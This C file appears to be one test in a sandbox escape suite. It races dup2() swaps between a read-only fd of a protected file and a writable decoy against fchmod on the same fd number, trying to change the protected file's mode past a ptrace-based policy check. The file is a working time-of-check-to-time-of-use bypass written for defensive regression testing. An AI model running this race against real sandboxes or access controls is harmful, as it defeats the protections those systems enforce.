/*
 * Vector 3 (TOCTOU on an fd): fchmod is decided on the file its fd names
 * (esc_fchmod_readonly), but the fd is not pinned: a thread dup2()s a
 * read-only fd of protected/victim.txt and a writable decoy in turn onto
 * fd 100 while the main thread fchmods fd 100. Judged while it was the
 * decoy, run by the kernel on victim.txt.
 * Policy esc_fchmod_dup2_race.yaml: protected/victim.txt read-only.
 * success = victim.txt's mode changed.
 * expect: ptrace_file
 * expect-match: victim.txt
 */
#include "esc.h"

#define TARGET_FD 100

static int ro, decoy;

int main(void)
{
	const char *victim = esc_fmt("%s/victim.txt", esc_protected());
	struct stat st;
	mode_t before;
	long tries = 0;

	ro = open(victim, O_RDONLY);
	if (ro < 0)
		esc_broken("open %s for reading: %s", victim, strerror(errno));
	decoy = open(esc_fmt("%s/decoy", esc_work()), O_RDWR | O_CREAT, 0644);
	if (decoy < 0 || fstat(ro, &st) < 0)
		esc_broken("decoy: %s", strerror(errno));
	before = st.st_mode & 07777;
	/* one plain try first: denied, and recorded */
	if (fchmod(ro, 0604) == 0 && fstat(ro, &st) == 0 && (st.st_mode & 07777) != before)
		esc_success("fchmod of the read-only fd itself worked");
	esc_dup2_flip_start(decoy, ro, TARGET_FD);
	double end = esc_now() + esc_race_seconds();
	while (esc_now() < end) {
		tries++;
		fchmod(TARGET_FD, 0604);
		if (fstat(ro, &st) == 0 && (st.st_mode & 07777) != before) {
			esc_dup2_flip_stop();
			esc_success("fchmod reached victim.txt through a dup2'ed fd after %ld tries", tries);
		}
	}
	esc_dup2_flip_stop();
	esc_blocked("victim.txt kept its mode in %ld tries", tries);
}
